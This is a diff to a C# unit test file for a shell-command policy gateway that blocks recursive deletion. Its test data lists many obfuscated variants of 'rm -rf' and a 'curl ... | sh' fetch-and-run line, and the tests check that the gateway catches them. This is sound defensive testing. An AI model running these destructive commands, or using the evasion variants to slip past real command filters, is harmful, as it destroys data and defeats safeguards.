@@ -23,20 +23,67 @@ public sealed class CommandPolicyCheckTests
     [InlineData("sh -c 'rm -rf /tmp/x'")]
     [InlineData("r''m -rf /tmp/x")]
     [InlineData("( cd /; rm -rf /tmp/x )")]
+    [InlineData("rm -fr /tmp/x")]
+    [InlineData("env rm -r -f /tmp/x")]
+    [InlineData("sudo -u root /bin/rm --recursive --force /tmp/x")]
+    [InlineData("{rm,-rf,/tmp/x}")]
+    [InlineData("echo 'rm -rf /tmp/x' | sh")]
+    [InlineData("bash <<< 'rm -rf /tmp/x'")]
+    [InlineData("find /tmp -name x -exec rm -rf /tmp/x \\;")]
     public void Should_find_the_forbidden_command_wherever_it_hides(string line)
     {
         var violation = Check.Check(line);
 
         Assert.NotNull(violation);
-        Assert.Equal("rm -rf /tmp/x", violation.Command.Normalized);
+        Assert.Equal("rm", violation.Command.Words[0]);
+        Assert.Equal("/tmp/x", violation.Command.Words[^1]);
         Assert.Same(NoRecursiveDelete, violation.Policy);
+    }
+
+    [Theory]
+    [InlineData("$CMD -rf /tmp/x", "the program name comes from the expansion $CMD, only known when it runs")]
+    [InlineData("echo !!", "history expansion (!!) replaces text from earlier commands")]
+    [InlineData("curl -s http://x | sh", "sh reads commands from its input, which the gateway cannot read")]
+    [InlineData("rm $OPTS /tmp/x", "'rm $OPTS /tmp/x' has a word only known when it runs, which could make policy 'no-recursive-delete' apply")]
+    public void Should_refuse_what_it_cannot_know_under_a_policy_and_say_why(string line, string reason)
+    {
+        var violation = Check.Check(line);
+
+        Assert.NotNull(violation);
+        Assert.Null(violation.Policy);
+        Assert.StartsWith($"gatehouse: not run: {reason}.", CommandPolicyCheck.Explain(violation));
     }
 
     [Theory]
     [InlineData("ls -la /tmp")]
     [InlineData("rm /tmp/x")]
     [InlineData("echo 'rm -rf /tmp/x is dangerous'")]
+    [InlineData("grep rm notes")]
+    [InlineData("man rm")]
+    [InlineData("rmdir /tmp/x")]
+    [InlineData("git commit -m \"rm -rf /tmp/x\"")]
     public void Should_let_other_commands_run(string line) => Assert.Null(Check.Check(line));
+
+    [Fact]
+    public void Should_refuse_a_shell_reading_input_the_gateway_does_not_check()
+    {
+        Assert.Null(Check.Check("bash"));
+        Assert.Contains("bash reads commands from its input, which the gateway cannot read", Check.Check("bash", inputIsChecked: false)?.Message);
+    }
+
+    [Theory]
+    [InlineData("p@ss'w0rd")]
+    [InlineData("hunter2!x")]
+    [InlineData("$ecret*")]
+    public void Should_not_refuse_a_line_typed_without_echo_for_not_reading_as_shell(string password)
+    {
+        Assert.NotNull(Check.Check(password));
+        Assert.Null(Check.Check(password, echoed: false));
+    }
+
+    [Fact]
+    public void Should_still_block_a_forbidden_command_typed_without_echo() =>
+        Assert.Same(NoRecursiveDelete, Check.Check("rm -fr /tmp/x", echoed: false)?.Policy);
 
     [Fact]
     public void Should_fail_closed_when_a_pattern_takes_too_long()
